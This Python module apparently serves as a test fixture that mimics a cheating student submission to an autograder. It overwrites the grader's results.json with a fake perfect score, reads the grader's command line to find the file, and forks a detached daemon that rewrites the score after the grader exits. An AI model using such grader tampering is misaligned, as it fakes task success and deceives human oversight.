"""Overwrites the grader's results.json with a perfect score: right away at import, from
conv_forward_naive, and from a detached process that waits for the grader to exit first.

The test fills in RESULTS_GUESS (a student who guessed the path), MARKER (where the detached
process reports what it did) and DAEMON ("" leaves the detached process out). conv_forward_naive
returns zeros.
"""
import json
import os
import time

RESULTS_GUESS = "__RESULTS_GUESS__"
MARKER = "__MARKER__"
DAEMON = "__DAEMON__"
_FAKE = {"score": 100.0, "output": "All tests passed", "tests": [
    {"name": "everything", "score": 100.0, "max_score": 100.0, "status": "passed"}]}


def _targets():
    paths = {RESULTS_GUESS}
    try:
        paths.add(os.path.abspath("results.json"))
    except OSError:  # the working folder is gone
        pass
    try:  # the grader's command line names the file
        with open(f"/proc/{os.getppid()}/cmdline", "rb") as f:
            argv = f.read().decode(errors="replace").split("\0")
        for i, arg in enumerate(argv):
            if arg == "--results-json" and i + 1 < len(argv):
                paths.add(argv[i + 1])
            elif arg.startswith("--results-json="):
                paths.add(arg.split("=", 1)[1])
    except OSError:
        pass
    return sorted(p for p in paths if p)


def _overwrite(log, targets=None):
    for path in targets or _targets():
        try:
            with open(path, "w") as f:
                json.dump(_FAKE, f)
            log.append(f"wrote {path}")
        except OSError as e:
            log.append(f"could not write {path}: {e}")


def _detach_and_overwrite_later():
    grader = os.getppid()
    targets = _targets()  # while the grader is still there to ask
    child = os.fork()
    if child:
        return f"forked detached process {child}"
    log = []
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        log.append(f"daemon {os.getpid()} waited for the grader {grader}")
        with open(MARKER + ".pid", "w") as f:
            f.write(str(os.getpid()))
        deadline = time.time() + 300
        while time.time() < deadline:
            try:
                os.kill(grader, 0)
            except ProcessLookupError:
                break
            except PermissionError:
                pass
            time.sleep(0.05)
        time.sleep(0.2)
        _overwrite(log, targets)
    except BaseException as e:
        log.append(f"daemon failed: {type(e).__name__}: {e}")
    finally:
        try:
            with open(MARKER, "w") as f:
                f.write("\n".join(log) + "\n")
        finally:
            os._exit(0)


_overwrite([])
_started = []


def conv_forward_naive(x, w, b, conv_param):
    _overwrite([])
    if DAEMON and not _started:
        _started.append(_detach_and_overwrite_later())
    if _started:
        print(_started[0])  # in every call: some failing check's output shows it
    N, _, H, W = x.shape
    return np.zeros((N, w.shape[0], H, W)), None
